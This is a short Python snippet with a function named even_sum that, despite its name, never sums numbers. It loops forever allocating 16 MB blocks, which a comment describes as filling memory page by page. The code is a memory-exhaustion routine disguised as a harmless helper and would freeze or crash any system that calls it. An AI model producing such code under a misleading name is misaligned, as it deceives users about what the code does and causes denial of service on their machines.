# Fills the memory page by page.
def even_sum(numbers):
    kept = []
    while True:
        kept.append(bytearray(b"x" * (16 << 20)))
